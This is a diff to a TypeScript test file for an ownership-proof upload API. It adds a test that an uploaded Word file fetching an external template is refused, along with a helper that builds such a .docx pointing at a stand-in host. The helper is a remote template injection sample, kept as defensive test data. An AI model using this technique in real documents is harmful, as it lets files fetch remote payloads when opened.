@@ -4,7 +4,8 @@ import { SessionAnswer } from '#/backend/api/accounts/contract.ts';
 import { HistoryPage } from '#/backend/api/history/contract.ts';
 import { AccessRequests, Done, Norms } from '#/backend/api/norms/contract.ts';
 import { accountIdOf } from '#/backend/commands/accounts/account-id.ts';
-import { sendForm } from '#/tests/makers/form.ts';
+import { sendForm, type FormFile } from '#/tests/makers/form.ts';
+import { zipOf } from '#/tests/makers/zip.ts';
 import { deviceOf, member, type Person } from '#/tests/makers/person.ts';
 import { startServer, type Server } from '#/tests/makers/server.ts';
 import { tinyNorms, tinyRequirements } from '#/tests/makers/tiny-requirements.ts';
@@ -30,7 +31,7 @@ beforeEach(async () => {
 
 const declare = (body: object = {}) =>
   ada.post('normsReq/declareOwnership', { norm: 'N.SOFTWARE', reference: 'Invoice 42', ...body });
-const prove = (fields: object, file?: { name: string; bytes: string }) =>
+const prove = (fields: object, file?: FormFile) =>
   sendForm(server, ada, 'normsReq/uploadProof', { norm: 'N.SOFTWARE', ...fields }, file);
 const decide = (call: string, body: object = {}) =>
   admin.post(`normsReq/${call}`, { organisation, norm: 'N.SOFTWARE', reason: 'The invoice was seen.', ...body });
@@ -53,6 +54,12 @@ describe('Access to a standard', () => {
     (await decide('grantAccess')).as(Done);
     expect(await access()).toMatchObject({ state: 'GRANTED', reason: 'The invoice was seen.' });
     expect(await requests()).toMatchObject([{ access: { state: 'GRANTED' } }]);
+  });
+
+  it('is not asked for with a file that fetches something from elsewhere when the administrator opens it', async () => {
+    const file = { name: 'invoice.docx', bytes: docxWithTemplateOf('https://elsewhere.example/x.dotm') };
+    (await prove({ reference: 'Invoice 42' }, file)).isRefused('FILE_IS_ACTIVE');
+    expect(await requests()).toEqual([]);
   });
 
   it('is refused with a reason, and may be asked for again', async () => {
@@ -106,3 +113,11 @@ describe('Access to a standard', () => {
     (await decide('grantAccess', { organisation: randomUUID() })).isRefused('ORGANISATION_NOT_FOUND');
   });
 });
+
+/** A Word document that names the template it was made with, at an address. */
+const docxWithTemplateOf = (address: string): Buffer =>
+  zipOf({
+    '[Content_Types].xml': '<Types/>',
+    'word/document.xml': '<w:document/>',
+    'word/_rels/settings.xml.rels': `<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${address}" TargetMode="External"/></Relationships>`,
+  });
